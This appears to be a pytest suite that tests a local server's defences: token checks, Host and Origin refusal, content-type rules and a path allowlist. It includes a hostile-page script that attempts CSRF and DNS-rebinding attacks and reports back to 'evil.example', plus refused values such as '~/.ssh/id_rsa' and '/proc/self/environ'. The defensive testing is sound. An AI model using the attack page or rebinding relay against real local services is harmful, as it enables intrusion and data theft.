"""The server answers its user and nobody else: no foreign page, no other account, no name that points here, and nothing that the user did not allow."""

import asyncio
import json
import os
import shutil
import socket
import socketserver
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route

from checkpoints.home import server_token
from checkpoints.store import open_store
from graph import server_limits
from graph.server_guard import STUDIO, Guard
from graph.server_limits import check_allowed, limits_from_environment
from schema.errors import HomeError, SettingRefused, SettingsError
from schema.settings import make_settings
from tests.graph.test_server import Server, until

TOKEN = "the-token-of-this-test"
HOME = "http://127.0.0.1:2024"


async def _echo(request: Request) -> PlainTextResponse:
    return PlainTextResponse(request.url.path)


APP = Guard(Starlette(routes=[Route("/{path:path}", _echo, methods=["GET", "POST"])]), TOKEN)


def ask(method: str = "GET", url: str = f"{HOME}/threads", **more: Any) -> httpx.Response:
    async def send() -> httpx.Response:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(APP)) as client:
            return await client.request(method, url, **more)

    return asyncio.run(send())


@pytest.mark.parametrize("headers", [{"x-api-key": TOKEN}, {"authorization": f"Bearer {TOKEN}"}])
def test_who_has_the_token_is_served(headers: dict[str, str]) -> None:
    assert ask(headers=headers).text == "/threads"


def test_an_address_may_carry_the_token() -> None:
    assert ask(url=f"{HOME}/t/{TOKEN}/threads/7", headers={"origin": STUDIO}).text == "/threads/7"
    assert ask(url=f"{HOME}/t/{TOKEN}").text == "/"


@pytest.mark.parametrize(
    "url", [f"{HOME}/threads", f"{HOME}/t/wrong/threads", f"{HOME}/threads?token={TOKEN}", f"{HOME}//t/{TOKEN}/threads"]
)
def test_without_the_token_nobody_is_served(url: str) -> None:
    answer = ask(url=url)
    assert (answer.status_code, "server.token" in answer.text) == (401, True)
    assert TOKEN not in answer.text


def test_whether_it_lives_is_told_to_every_program_of_this_machine() -> None:
    assert ask(url=f"{HOME}/ok").status_code == 200


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:2024", "127.0.0.1.evil.example", "", "localhost@evil.example", "[::2]:2024"]
)
def test_a_foreign_host_name_is_refused_token_or_not(host: str) -> None:
    """A page can let a name of its own point at 127.0.0.1."""
    assert ask(headers={"host": host, "x-api-key": TOKEN}).status_code == 403
    assert ask(url=f"{HOME}/ok", headers={"host": host}).status_code == 403


@pytest.mark.parametrize("host", ["127.0.0.1:2024", "localhost:2024", "LOCALHOST:2024", "[::1]:2024"])
def test_names_of_this_machine_are_served(host: str) -> None:
    assert ask(headers={"host": host, "x-api-key": TOKEN}).status_code == 200


@pytest.mark.parametrize(
    "origin",
    [
        "https://evil.example",
        "null",
        "http://127.0.0.1:8000",
        "http://localhost:2024",
        "https://127.0.0.1:2024",
        f"{STUDIO}.evil.example",
        "http://smith.langchain.com",
    ],
)
def test_a_foreign_page_is_refused_token_or_not(origin: str) -> None:
    assert ask("POST", headers={"origin": origin, "x-api-key": TOKEN}, json={}).status_code == 403


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_a_picture_or_a_form_of_a_foreign_page_is_refused(site: str) -> None:
    assert ask(url=f"{HOME}/t/{TOKEN}/threads", headers={"sec-fetch-site": site}).status_code == 403


@pytest.mark.parametrize(
    "kind",
    [
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "text/plain; application/json",
        "",
    ],
)
def test_what_a_page_can_send_without_asking_first_is_refused(kind: str) -> None:
    answer = ask("POST", headers={"x-api-key": TOKEN, "content-type": kind}, content=b"{}")
    assert answer.status_code == 415


def test_json_is_taken() -> None:
    assert ask("POST", headers={"x-api-key": TOKEN}, json={}).status_code == 200
    kind = "application/json; charset=utf-8"
    assert ask("POST", headers={"x-api-key": TOKEN, "content-type": kind}, content=b"{}").status_code == 200


def test_the_token_is_random_kept_and_the_users_alone(home: Path) -> None:
    token = server_token()
    assert (len(token), server_token()) == (32, token)
    assert (home / "server.token").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("content", ["x", " ", "short-token"])
def test_a_token_that_is_too_short_starts_no_server(home: Path, content: str) -> None:
    """An empty one would be carried by every request."""
    (home / "server.token").write_text(content)
    with pytest.raises(HomeError, match=r"server.token is damaged.*delete it: the server then has a new token"):
        server_token()


def test_an_empty_token_is_made_anew(home: Path) -> None:
    (home / "server.token").touch()
    assert len(server_token()) == 32


@pytest.fixture
def limited(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """As if this process were the server: one folder may be read."""
    (tmp_path / "allowed").mkdir()
    monkeypatch.setenv("IMPROVE_SERVER_DATA", str(tmp_path / "allowed"))
    monkeypatch.setenv("IMPROVE_SERVER_BASE_URLS", "http://127.0.0.1:11434/v1")
    monkeypatch.setenv("IMPROVE_SERVER_SANDBOX", "landlock")
    monkeypatch.setattr(server_limits, "_limits", limits_from_environment())
    return tmp_path / "allowed"


def test_what_was_allowed_at_the_start_may_be_asked_for(limited: Path) -> None:
    (limited / "photos").mkdir()
    for own in ({}, {"tier": "auto"}, {"tier": "bwrap"}, {"tier": "landlock"}, {"base_url": "http://127.0.0.1:11434/v1/"}, {"labels": str(limited / "photos/labels.csv")}):  # fmt: skip
        check_allowed(make_settings({"dataset": str(limited / "photos"), **own}))
    check_allowed(make_settings({"dataset": "digits"}))
    check_allowed(make_settings({"dataset": "digits", "base_url": "https://api.openai.com/v1"}))  # as a run settles it


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("tier", "none"),
        ("base_url", "http://evil.example/v1"),
        ("dataset", "/etc"),
        ("dataset", "~"),
        ("dataset", "{allowed}/../elsewhere"),
        ("dataset", "{allowed}-too"),
        ("dataset", "{allowed}/link"),
        ("labels", "~/.ssh/id_rsa"),
        ("labels", "/proc/self/environ"),
        ("weights_dir", "/root/.cache"),
    ],
)
def test_nothing_else_may_and_the_answer_says_what_to_type(limited: Path, field: str, value: str) -> None:
    (limited / "link").symlink_to("/etc")
    asked = {"dataset": "digits", field: value.replace("{allowed}", str(limited))}
    with pytest.raises(SettingRefused, match=f"^{field}=.*Start it with IMPROVE_SERVER_"):
        check_allowed(make_settings(asked))


def test_an_answer_does_not_tell_what_lies_beside_a_path(limited: Path, tmp_path: Path) -> None:
    (tmp_path / "secret-plans").mkdir()
    with pytest.raises(SettingRefused) as refused:
        check_allowed(make_settings({"dataset": str(tmp_path / "secret-plan")}))
    assert "secret-plans" not in str(refused.value)


def test_a_run_that_the_command_began_goes_on_as_it_is(limited: Path) -> None:
    typed = make_settings({"dataset": "/data/photos", "tier": "none"})
    check_allowed(typed, lambda: typed)
    with pytest.raises(SettingRefused, match="base_url"):
        check_allowed(typed.model_copy(update={"base_url": "http://evil.example/v1"}), lambda: typed)


@pytest.mark.parametrize(("name", "value"), [("IMPROVE_SERVER_DATA", "/nowhere"), ("IMPROVE_SERVER_SANDBOX", "docker")])
def test_a_server_is_not_started_with_what_makes_no_sense(
    name: str, value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, value)
    with pytest.raises(SettingsError, match=name):
        limits_from_environment()


def test_the_command_is_not_limited() -> None:
    check_allowed(make_settings({"dataset": "/etc", "tier": "none", "base_url": "http://evil.example/v1"}))


PAGE = """<script>
const tries = {
  read: () => fetch(T + "/threads/search", {method: "POST", headers: {"content-type": "application/json"}, body: "{}"}).then(r => r.text()),
  blind: () => fetch(T + "/threads", {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"}, body: "{}"}).then(r => r.type),
  run: () => fetch(T + "/runs/wait", {method: "POST", mode: "no-cors", headers: {"content-type": "text/plain"},
    body: JSON.stringify({assistant_id: "improve", input: {dataset: "digits", name: "pwned", tier: "none"}})}).then(r => r.type),
  form: () => new Promise(done => { const f = document.createElement("iframe"); f.name = "f"; f.onload = () => done("sent"); document.body.append(f);
    const form = document.createElement("form"); form.method = "post"; form.enctype = "text/plain"; form.target = "f"; form.action = T + "/threads";
    const i = document.createElement("input"); i.name = '{"a":"'; i.value = '"}'; form.append(i); document.body.append(form); form.submit(); setTimeout(() => done("timeout"), 3000); }),
  image: () => new Promise(done => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => done("error"); i.src = T + "/docs"; }),
  socket: () => new Promise(done => { const s = new WebSocket(T.replace("http", "ws") + "/threads/x/stream"); s.onopen = () => done("open"); s.onerror = () => done("refused"); }),
};
window.onload = async () => {
  const seen = {origin: location.origin};
  for (const [name, attempt] of Object.entries(tries)) { try { seen[name] = await attempt(); } catch (error) { seen[name] = "refused: " + error; } }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(seen)});
};
</script>"""


class Hostile:
    """A web site of somebody else: serves the page, and is told what the page could do."""

    def __init__(self) -> None:
        self.page = ""
        self.told: list[dict[str, Any]] = []
        self.served = threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("connection", "close")
                self.end_headers()
                self.wfile.write(site.page.encode())
                site.served.set()

            def do_POST(self) -> None:
                site.told.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *_: object) -> None: ...

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def wait(self) -> dict[str, Any]:
        for _ in range(600):
            if self.told:
                return self.told[0]
            time.sleep(0.1)
        raise AssertionError("the page has told nothing")


@contextmanager
def rebinding(site: Hostile, server_port: int) -> Iterator[int]:
    """A port of 127.0.0.2 that belongs to the hostile site until its page was served, and then to the server: as a name does that is bound
    anew."""

    class Relay(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            begun = self.request.recv(65536)  # a browser opens connections that it may never use
            port = server_port if site.served.is_set() else site.port
            with socket.create_connection(("127.0.0.1", port)) as there:
                there.sendall(begun)
                back = threading.Thread(target=self._pump, args=(there, self.request), daemon=True)
                back.start()
                self._pump(self.request, there)
                back.join(5)

        @staticmethod
        def _pump(source: socket.socket, sink: socket.socket) -> None:
            try:
                while data := source.recv(65536):
                    sink.sendall(data)
                sink.shutdown(socket.SHUT_WR)
            except OSError:
                pass

    with socketserver.ThreadingTCPServer(("127.0.0.2", 0), Relay) as relay:
        relay.daemon_threads = True
        threading.Thread(target=relay.serve_forever, daemon=True).start()
        yield relay.server_address[1]
        relay.shutdown()


@contextmanager
def browser(address: str, profile: Path) -> Iterator[None]:
    flags = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync"
    rules = "--host-resolver-rules=MAP rebound.example 127.0.0.2, MAP evil.example 127.0.0.1"
    process = subprocess.Popen(
        [shutil.which("chromium") or "", *flags.split(), rules, f"--user-data-dir={profile}", address],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env={**os.environ, "HOME": str(profile)}, start_new_session=True,
    )  # fmt: skip
    try:
        yield
    finally:
        os.killpg(process.pid, 9)
        process.wait()


@pytest.fixture
def server(tmp_path: Path, home: Path) -> Iterator[Server]:
    if not shutil.which("chromium"):
        pytest.skip("there is no browser here: apt-get install chromium")
    folder = tmp_path / "server"
    folder.mkdir()
    (folder / "own").mkdir()
    made = Server(folder / "own")
    made.start()
    yield made
    made.stop()


def attacked(server: Server, address: str, target: str, profile: Path, site: Hostile) -> dict[str, Any]:
    """What the page at `address` could do to `target`, from within a real browser."""
    site.page = f"<script>const T = '{target}', REPORT = 'http://evil.example:{site.port}/';</script>{PAGE}"
    before = len(server.client.threads.search())
    with browser(address, profile):
        seen = site.wait()
    assert len(server.client.threads.search()) == before
    assert "pwned" not in {row.name for row in open_store().runs()}
    return seen


def test_a_page_in_a_real_browser_can_do_nothing(server: Server, tmp_path: Path) -> None:
    site = Hostile()
    address = f"http://evil.example:{site.port}"
    seen = attacked(server, f"{address}/", f"http://127.0.0.1:{server.port}", tmp_path, site)
    assert seen["origin"] == address
    assert seen["read"].startswith("refused")
    assert (seen["image"], seen["socket"]) == ("error", "refused")


def test_a_name_that_is_bound_anew_does_not_make_a_page_ours(server: Server, tmp_path: Path) -> None:
    """For the browser the page and the server are then one site: it reads every answer, and only the host's name tells."""
    site = Hostile()
    with rebinding(site, server.port) as port:
        address = f"http://rebound.example:{port}"
        seen = attacked(server, f"{address}/", address, tmp_path, site)
    assert seen["origin"] == address
    assert "does not answer to that host name" in seen["read"]


def test_the_page_of_studio_works_with_the_address_that_is_printed(server: Server, tmp_path: Path) -> None:
    log = until(lambda: "/t/" in (server.folder / "log").read_text() and (server.folder / "log").read_text(), 20)
    assert f"{STUDIO}/studio/?baseUrl=http://127.0.0.1:{server.port}/t/{server_token()}" in log
    base = f"http://127.0.0.1:{server.port}/t/{server_token()}"
    asked = {
        "origin": STUDIO,
        "access-control-request-method": "POST",
        "access-control-request-headers": "content-type",
    }
    preflight = httpx.options(f"{base}/threads/search", headers=asked)
    assert preflight.headers["access-control-allow-origin"] == STUDIO
    answer = httpx.post(f"{base}/threads/search", headers={"origin": STUDIO}, json={})
    assert (answer.status_code, answer.headers["access-control-allow-origin"]) == (200, STUDIO)
    assert httpx.post(f"http://127.0.0.1:{server.port}/threads/search", json={}).status_code == 401
    assert httpx.post(f"{base}/threads/search", content=b"{}").status_code == 415
    assert httpx.post(f"{base}/threads/search", headers={"host": "evil.example"}, json={}).status_code == 403
    foreign = httpx.options(f"{base}/threads/search", headers=asked | {"origin": "https://evil.example"})
    assert "access-control-allow-origin" not in foreign.headers


def test_over_http_nothing_is_asked_for_that_was_not_allowed(server: Server) -> None:
    thread = server.client.threads.create()["thread_id"]
    for field, value in {
        "tier": "none",
        "base_url": "http://127.0.0.1:9/v1",
        "dataset": "/etc",
        "labels": "~/.ssh/id_rsa",
    }.items():
        asked = {"dataset": "digits", "model": "openai:x", field: value}
        with pytest.raises(Exception, match="Start it with IMPROVE_SERVER_"):
            server.client.runs.wait(thread, "improve", input=asked)
